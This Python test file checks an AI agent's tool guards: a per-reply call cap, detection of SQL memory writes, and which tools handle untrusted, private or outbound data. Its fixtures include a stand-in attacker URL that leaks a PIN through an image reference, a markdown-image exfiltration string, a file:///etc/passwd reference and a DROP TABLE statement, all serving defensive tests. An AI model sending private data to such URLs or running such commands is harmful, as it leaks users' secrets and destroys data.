"""execute_tool's guard tables: the per-reply cap, what writes memory, and which tools
are private, outside content or outbound (the lethal trifecta's legs)."""

from __future__ import annotations

import pytest

from graph.routing import MAX_CALLS_PER_REPLY, capped
from graph.state import ToolCall
from tools.memory_sql import is_write
from tools.registry import default_registry


def calls(count: int) -> list[ToolCall]:
    return [
        ToolCall(id=f"c{i}", name="echo", args={}, raw_args=None, command=None, native=True)
        for i in range(count)
    ]


@pytest.mark.parametrize(
    ("count", "kept", "over"),
    [
        (0, 0, 0),
        (1, 1, 0),
        (MAX_CALLS_PER_REPLY, MAX_CALLS_PER_REPLY, 0),
        (MAX_CALLS_PER_REPLY + 1, MAX_CALLS_PER_REPLY, 1),
        (60, MAX_CALLS_PER_REPLY, 60 - MAX_CALLS_PER_REPLY),
    ],
)
def test_capped_keeps_the_first_calls_of_a_reply(count: int, kept: int, over: int) -> None:
    allowed, refused = capped(calls(count))
    assert [c["id"] for c in allowed] == [f"c{i}" for i in range(kept)]
    assert [c["id"] for c in refused] == [f"c{i}" for i in range(kept, kept + over)]


@pytest.mark.parametrize(
    ("sql", "writes"),
    [
        ("SELECT value FROM memories", False),
        ("WITH x AS (SELECT 1 AS n) SELECT n FROM x", False),
        ("UPDATE memories SET value = 'x'", True),
        ("WITH x AS (SELECT 1) UPDATE memories SET value = 'x'", True),
        ("```sql\nUPDATE sessions SET title = 'x'\n```", True),
        ("update messages set content = 'x'", True),
        ("DROP TABLE memories", False),  # refused before it runs: writes nothing
        ("", False),
    ],
)
def test_memory_sql_writes_only_with_an_update(sql: str, writes: bool) -> None:
    assert is_write({"sql": sql}) is writes


def test_tools_declare_outside_content_private_data_and_memory_writes() -> None:
    registry = default_registry()
    specs = {name: registry.get(name) for name in registry.names}
    assert registry.untrusted == {"web_search", "image_analyze"}
    assert registry.private == {"memory_search", "memory_sql"}
    writers = {n for n, s in specs.items() if s and s.writes_memory and s.writes_memory({})}
    assert writers == {"create_memory", "update_memory", "delete_memory"}
    assert specs["memory_sql"].writes_memory is is_write  # type: ignore[union-attr]


ATTACKER = "http://attacker.example/x.png?d=PIN-4321"


@pytest.mark.parametrize(
    ("tool", "args", "sent"),
    [
        ("web_search", {"query": "  tea   PIN-4321 "}, "tea PIN-4321"),
        ("web_search", {"query": " "}, None),
        ("image_analyze", {"reference": ATTACKER}, ATTACKER),
        ("image_analyze", {}, None),
        ("image_analyze", {"reference": "media/cat.png"}, None),
        ("image_analyze", {"reference": "file:///etc/passwd"}, None),
        ("image_analyze", {"reference": "https://x.example/" + "a" * 5000}, None),
        ("weather", {"location": "Tokyo"}, "Tokyo"),
        ("weather", {"lat": 43.21, "lon": 1.5}, "43.21, 1.5"),
        ("weather", {}, None),  # the saved location: the model wrote nothing
        ("memory_search", {"query": "tea"}, None),
        ("memory_sql", {"sql": "SELECT 1"}, None),
        ("create_memory", {"category": "signals", "key": "k", "value": "v"}, None),
        ("image_generate", {"prompt": "a cat"}, None),  # the operator's own backend
    ],
)
def test_outbound_is_exactly_what_a_call_sends_that_the_model_wrote(tool, args, sent) -> None:
    assert default_registry().outbound(tool, args) == sent


def test_a_markdown_image_is_outbound_as_its_url() -> None:
    reference = "look ![cat](https://cats.example/a.png?d=PIN) here"
    assert default_registry().outbound("image_analyze", {"reference": reference}) == (
        "https://cats.example/a.png?d=PIN"
    )
